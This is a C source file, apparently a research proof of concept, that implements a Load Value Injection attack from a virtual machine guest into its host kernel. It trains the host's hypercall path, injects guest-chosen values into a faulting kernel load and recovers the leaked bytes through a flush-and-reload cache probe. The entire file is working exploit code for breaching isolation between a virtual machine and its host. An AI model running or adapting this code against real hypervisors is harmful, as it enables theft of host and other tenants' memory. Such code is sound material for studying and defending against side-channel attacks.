/*
 * Load value injection (Van Bulck et al., 2020) from a virtual machine into its host's kernel: as lvi,
 * but what the kernel's faulting load goes on with are lines that the guest has read. Neither exit nor
 * entry of a virtual machine clears the buffers through which they came.
 */
#include "attack.h"

#include "gadget.h"
#include "machine.h"
#include "secret.h"

enum { TRAININGS = 6, LINES = 32, LINE_WORDS = 8 };

static struct machine machine;
static const uint8_t *array;

/* Inside: lines of the index that is to be injected, what was seen, and where the kernel is told to read one. */
static uint64_t injected[LINES][LINE_WORDS] __attribute__((aligned(64)));
static int shown;
static const uint64_t *pointers[TRAININGS + 1];

/* Trainings take the same way as the last hypercall, which alone points to memory that is not there. */
static void sample_inside(void)
{
	const uint8_t *probe = array + SHARED_PROBE;

	for (int i = 0; i <= TRAININGS; i++) {
		flush_probe(probe);
		flush(array + SHARED_LIMIT);
		flush(array + SHARED_FOUND_LIMIT);
		for (int line = 0; line < LINES; line++)
			flush(injected[line]);
		memory_fence();
		for (int line = 0; line < LINES; line++)
			touch(injected[line]);
		hypercall((uintptr_t)pointers[i]);
	}
	shown = reload_probe(probe);
}

static int sample(int index)
{
	for (int line = 0; line < LINES; line++) {
		for (int word = 0; word < LINE_WORDS; word++)
			(*IN_MACHINE(&machine, injected))[line][word] = options.address + index - options.table;
	}
	if (options.service)
		use_secret(index);
	machine_run(&machine, sample_inside);
	return *IN_MACHINE(&machine, shown);
}

int main(int argc, char **argv)
{
	static const uint64_t permitted = 1;
	uint64_t *absent = mmap(NULL, MACHINE_PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	parse_options(argc, argv);
	if (!options.address || !options.table)
		errx(2, "expected --address and --table");
	if (absent == MAP_FAILED)
		err(1, "mmap");
	if (options.service)
		open_secret();
	array = map_gadget(options.gadget);
	for (int i = 0; i < TRAININGS; i++)
		pointers[i] = &permitted;
	pointers[TRAININGS] = absent;
	calibrate();
	machine_create(&machine);
	machine_share(&machine, array, SHARED_BYTES);
	recover(sample, (struct patience){ .samples = 40, .lead = 2 }, 1);
	return 0;
}
